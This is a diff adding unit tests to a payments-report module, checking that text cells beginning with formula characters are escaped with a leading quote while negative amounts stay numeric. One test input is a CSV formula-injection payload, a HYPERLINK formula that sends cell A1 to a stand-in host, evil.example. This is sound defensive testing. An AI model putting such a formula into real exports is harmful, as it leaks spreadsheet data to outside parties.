@@ -1,4 +1,5 @@
 import { MovementRow, REPORT_COLUMNS, reportValues } from '../../../src/reports/movement-row';
+import { isFormulaCell } from '../../support/report-files';
 
 const payment: MovementRow = {
   order_id: '1b4e28ba-2fa1-4d3b-9f6e-0c2d3e4f5a6b',
@@ -75,6 +76,40 @@ describe('reportValues', () => {
       error_code: 'INSUFFICIENT_FUNDS',
       merchant_name: 'A|B, "C"\nD',
     });
+  });
+
+  it('neutralises text that begins with a formula character, a single quote first, and leaves numbers, negative ones included, as they are', () => {
+    const hostile: MovementRow = {
+      ...payment,
+      type: 'REFUND',
+      external_reference: '=HYPERLINK("https://evil.example/?d="&A1,"invoice")',
+      local_amount: '-40.0000',
+      user_amount: '-7.4500',
+      merchant_name: '@SUM(A1:A9)',
+      merchant_identification_number: '+5511999999999',
+      error_code: '-',
+    };
+    expect(valuesOf(hostile)).toEqual({
+      order_id: payment.order_id,
+      external_reference: `'=HYPERLINK("https://evil.example/?d="&A1,"invoice")`,
+      type: 'REFUND',
+      status: 'COMPLETED',
+      created_at: '2026-11-02T14:03:11Z',
+      updated_at: '2026-11-02T14:03:40Z',
+      local_amount: '-40.00',
+      local_currency: 'BRL',
+      user_amount: '-7.45',
+      user_currency: 'USD',
+      fx_rate: '0.1862',
+      merchant_name: "'@SUM(A1:A9)",
+      merchant_identification_number: "'+5511999999999",
+      error_code: "'-",
+    });
+  });
+
+  it('guards the text of every column but the three numbers: ids, codes and statuses too', () => {
+    const hostile = { ...payment, order_id: '=A1', type: '@A1', status: '+A1', local_amount: null, local_currency: '\t=A1', user_amount: null, user_currency: '\r=A1' };
+    expect(reportValues(hostile as unknown as MovementRow).filter((value) => value !== null && isFormulaCell(value))).toEqual([]);
   });
 
   it('refuses an amount finer than its currency allows rather than rounding it', () => {
